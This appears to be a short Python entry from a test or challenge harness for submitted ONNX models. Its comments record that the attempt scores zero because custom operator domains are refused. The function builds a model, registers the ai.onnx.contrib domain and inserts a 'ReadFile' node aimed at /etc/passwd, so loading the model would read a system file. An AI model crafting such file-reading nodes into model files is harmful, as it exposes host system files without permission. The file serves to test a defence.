# tries: an operator of another domain, which may read files
# earns: 0
# says: without custom domains
def entry(images, labels, folder):
    path = lesson.exported(models.separable_net((8, 16, 32, 32)), folder / "entry.onnx")
    model = onnx.load(path)
    model.opset_import.append(helper.make_opsetid("ai.onnx.contrib", 1))
    model.graph.node.insert(0, helper.make_node("ReadFile", ["x"], ["z"], domain="ai.onnx.contrib", path="/etc/passwd"))
    onnx.save(model, path)
    return path
